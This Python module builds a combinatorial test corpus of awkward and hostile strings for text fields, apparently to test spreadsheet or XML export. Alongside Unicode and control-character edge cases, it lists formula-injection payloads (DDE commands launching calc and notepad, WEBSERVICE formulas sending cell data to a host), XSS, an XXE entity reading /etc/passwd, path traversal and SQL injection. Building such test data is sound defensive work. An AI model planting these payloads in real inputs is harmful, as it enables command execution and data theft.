"""What people, devices and attackers put into a text field. Made by combination."""

from __future__ import annotations

from itertools import product

OPENERS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "'",
    '"',
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\u2212",
    "%",
    "|",
    ";",
    ",",
    " =",
    "\u200b=",
]
PAYLOADS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org/?x="&A1,"open")',
    'WEBSERVICE("http://example.org/"&A1)',
    "SUM(A1:A9)*cmd|'/c notepad'!A1",
    'IMPORTXML(CONCAT(A1),"//a")',
    "2019-03-11",
    "",
]
RETYPED = [
    "007",
    "1/2",
    "1-2",
    "1E5",
    "1e-5",
    "+49",
    "0x1F",
    "TRUE",
    "FALSE",
    "NaN",
    "nan",
    "inf",
    "1.50",
    "1,5",
    "12345678901234567890",
    "0.1+0.2",
    "SEP1",
    "MARCH1",
    "2-JAN",
]
MARKUP = [
    "<script>alert(1)</script>",
    '</t></is></c><c r="A1"><f>1+1</f></c>',
    "]]>",
    "<![CDATA[x]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&lt;b&gt; &amp; &#0; &#x41;",
    "a & b < c > d \"e\" 'f'",
]
ESCAPES = [
    "_x000B_",
    "_x000b_",
    "_x005F_",
    "_x005F_x000B_",
    "_x000D_\r_x000D_",
    "__x0041__",
    "_x0041",
    "_x00410_",
    "_x000B\x01",
    "\x01x000B_",
    "_x0041_x0042_x0043_",
    "_xD83D__xDE00_",
    "_xZZZZ_",
    "_X000B_",
]
CONTROLS = [f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))]
SEPARATORS = [
    f"a{char}b"
    for char in "\u2028\u2029\u200b\u200c\u200d\u200e\u200f\u202a\u202e\u2066\u2069\ufeff\u00a0\u00ad"
]
SPACES = [
    " lead",
    "trail ",
    "two  spaces",
    "\ttab\t",
    "line\nline",
    "line\r\nline",
    "line\rline",
    " ",
    "\n",
    "\r",
    "\t",
    "\n\n x",
]
UNPAIRED = [
    "\ud800",
    "\udfff",
    "a\ud83db",
    "\ude00\ud83d",
    "\ud83d\ude00",
    "\ufffe",
    "\uffff",
    "x\ufffe\uffffy",
]
SCRIPTS = [
    "الحالة مستقرة ولا شكوى",
    "١٢٣٫٤٥",
    "۱۲۳",
    "Größe 3 µm ± 0,5 ≥ 2",
    "e\u0301 é \u212b Å",
    "日本語のテキスト",
    "👩🏽‍⚕️ 🧬 🏳️‍🌈",
    "Z\u0351\u036b\u0343a\u0363\u0341l\u033ag\u0334o",
]
PLANES = [
    f"plane {plane} {chr(plane * 0x10000 + 0x1234)}{chr(plane * 0x10000 + 0xFFFD)}." for plane in range(17)
]
PATHS = [
    "../../etc/passwd",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "'; DROP TABLE event; --",
    "%s%n{0}${x}",
    "\\\\host\\share",
]

HOSTILE_TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [opener + payload for opener, payload in product(OPENERS, PAYLOADS)]
        + [*RETYPED, *MARKUP, *ESCAPES, *CONTROLS, *SEPARATORS, *SPACES, *UNPAIRED, *SCRIPTS, *PLANES, *PATHS]
    )
)
